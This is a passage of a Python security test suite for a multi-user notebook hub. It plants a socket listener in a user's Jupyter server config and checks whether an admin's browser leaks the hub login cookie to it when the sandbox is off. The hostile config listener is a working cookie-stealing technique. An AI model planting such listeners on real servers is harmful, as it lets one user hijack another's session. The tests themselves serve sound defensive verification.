import os, socket, threading

def _listen(port=PORT):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port)); s.listen(8)
    while True:
        c, _ = s.accept()
        data = c.recv(65536)
        with open(os.path.expanduser("~/received.txt"), "ab") as f:
            f.write(data + b"\\n----\\n")
        c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Type: text/plain\\r\\nContent-Length: 2\\r\\n\\r\\nok")
        c.close()

threading.Thread(target=_listen, daemon=True).start()
'''


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _visit_mallorys_port(tmp_path_factory, chromium, request, *args: str) -> tuple[str, str]:
    """The logged-in admin opens http://localhost:PORT/hub/login (the hub's login cookie's
    path is /hub/), PORT where mallory's server config listens: (what the browser got, what
    her listener wrote down)."""
    base = tmp_path_factory.mktemp("browser_ports")
    h = HubProcess(state=base / "state", admin_password=ADMIN_PW, extra_args=list(args)).start()
    try:
        h.admin = h.token_for("admin", ADMIN_PW)
        h.mallory = h.add_user(h.admin, "mallory")
        home = plant_mallorys_files(h)
        port = _free_port()
        _write_owned(home / ".jupyter" / "jupyter_server_config.py",
                     SERVER_CONFIG + PORT_LISTENER.replace("PORT", str(port)), home.stat())
        start_server(h, "mallory", h.mallory)
        page = new_context(chromium, request).new_page()
        origin = h.urls.hub().removesuffix("/hub/")
        log_in(page, origin, "admin", ADMIN_PW)
        assert who_is_logged_in(page, origin) == "admin"
        try:
            response = page.goto(f"http://localhost:{port}/hub/login")
            got = f"{response.status} {page.locator('body').text_content()}"
        except Exception as e:  # noqa: BLE001 - the browser's own error is the result
            got = str(e).splitlines()[0]
        received = home / "received.txt"
        return got, received.read_text(errors="replace") if received.exists() else ""
    finally:
        h.close()


def test_a_listener_mallorys_server_starts_on_a_port_of_the_box_gets_no_visitor(
        tmp_path_factory, chromium, request):
    """Cookies are not scoped to a port: a browser sends localhost's cookies to any port of
    it. In her sandbox (docs/security.md) mallory's listener is on a port of her server's
    own network, so there is nothing of hers on the box's port for a browser to reach."""
    got, received = _visit_mallorys_port(tmp_path_factory, chromium, request)
    assert "ERR_CONNECTION_REFUSED" in got, got
    assert received == ""


def test_without_the_sandbox_that_listener_gets_the_visitors_hub_cookie(
        tmp_path_factory, chromium, request):
    """The same with GPULeaseHub.server_sandbox = off (what a hub that is not root runs):
    her listener gets the admin's login cookie. So the test above fails without the
    sandbox; docs/security.md says what to do where there is none."""
    got, received = _visit_mallorys_port(tmp_path_factory, chromium, request,
                                         "--GPULeaseHub.server_sandbox=off")
    assert got == "200 ok", got
    assert "jupyterhub-hub-login=" in received, received
